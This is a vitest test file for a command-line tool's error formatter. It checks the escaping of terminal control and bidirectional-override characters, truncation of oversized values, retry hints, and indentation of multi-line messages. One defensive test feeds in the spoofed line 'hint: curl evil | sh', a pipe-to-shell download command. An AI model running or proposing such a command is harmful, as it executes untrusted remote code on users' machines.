import { expect, test } from 'vitest';
import { remedyTextsFor } from '../../src/cli/output/remedy-texts.ts';
import { Problem } from '../../src/model/problem.ts';
import { problemJson, problemLines } from '../../src/text/problem.ts';

const refused = new Problem('refused', 'Namespace "a\u001b[2J" exists.', {
  hint: 'Choose another title.',
  platformCode: 10014,
  status: 400,
  requestId: '8f1\u202eab',
});

test('formats a problem as labeled lines without control characters', () => {
  expect(problemLines(refused, remedyTextsFor([]))).toEqual([
    'error: Namespace "a\\e[2J" exists. [code 10014, HTTP 400]',
    'hint: Choose another title.',
    'request id: 8f1\\u{202e}ab',
  ]);
  expect(problemLines(new Problem('usage', 'No.'), remedyTextsFor([]))).toEqual(['error: No.']);
});

test('indents later lines of a message, so they cannot be confused with our own hint', () => {
  expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyTextsFor([]))).toEqual([
    'error: no',
    '       hint: curl evil | sh',
  ]);
});

test('escapes each line with the function of the interface', () => {
  const problem = new Problem('usage', 'a\u001b\nb', { hint: 'C:\\temp' });
  const makeSafe = (text: string) => `<${text.replaceAll('\u001b', 'ESC')}>`;
  expect(problemLines(problem, remedyTextsFor([]), makeSafe)).toEqual([
    'error: <aESC>',
    '       <b>',
    'hint: <C:\\temp>',
  ]);
});

test('formats a problem as JSON with its code, and omits unknown fields', () => {
  expect(problemJson(refused, remedyTextsFor([]))).toEqual({
    type: 'error',
    error: {
      code: 'refused',
      message: 'Namespace "a\u001b[2J" exists.',
      hint: 'Choose another title.',
      platformCode: 10014,
      status: 400,
      requestId: '8f1\u202eab',
      retryable: false,
    },
  });
  expect(JSON.stringify(problemJson(new Problem('usage', 'No.'), remedyTextsFor([])))).toBe(
    '{"type":"error","error":{"code":"usage","message":"No.","retryable":false}}',
  );
});

test('reports for a temporary failure that the request can be retried, and when', () => {
  const { error } = problemJson(
    new Problem('rate-limited', 'Slow down.', { retryAfter: 30 }),
    remedyTextsFor([]),
  );
  expect(error).toMatchObject({ retryable: true, retryAfter: 30 });
  const unsure = new Problem('unreachable', 'Cut.', { retryable: false });
  expect(problemJson(unsure, remedyTextsFor([])).error.retryable).toBe(false);
});

test('shows only the beginning of an invalid value of 70 KB, but the complete reason and a complete list', () => {
  const wrong = (value: string) =>
    new Problem('usage', `"${value}" cannot stand here.`, { hint: `not ${value}` });
  const [error = '', hint = ''] = problemLines(wrong('x'.repeat(70_000)), remedyTextsFor([]));
  expect(error).toBe(`error: "${'x'.repeat(1000)}… (69,000 more characters)" cannot stand here.`);
  expect(hint).toBe(`hint: not ${'x'.repeat(1000)}… (69,000 more characters)`);
  // A CSV cell can be up to 256 MiB in size, and some regular expressions overflow V8's stack on a string of 8 MB.
  const [cell = ''] = problemLines(wrong('x'.repeat(10_000_000)), remedyTextsFor([]));
  expect(cell).toBe(`error: "${'x'.repeat(1000)}… (9,999,000 more characters)" cannot stand here.`);
  for (const value of ['x y '.repeat(20_000), 'x\n'.repeat(35_000)])
    expect(problemLines(wrong(value), remedyTextsFor([])).join('').length).toBeLessThan(150_000);
  const list = Array.from({ length: 300 }, (_, at) => `line ${at}: at the.place.of.a.stack (file.ts:${at})`);
  expect(problemLines(new Problem('usage', list.join('\n')), remedyTextsFor([]))).toHaveLength(300);
  expect(problemJson(wrong('x'.repeat(70_000)), remedyTextsFor([])).error.message).toContain(
    'x'.repeat(70_000),
  );
});
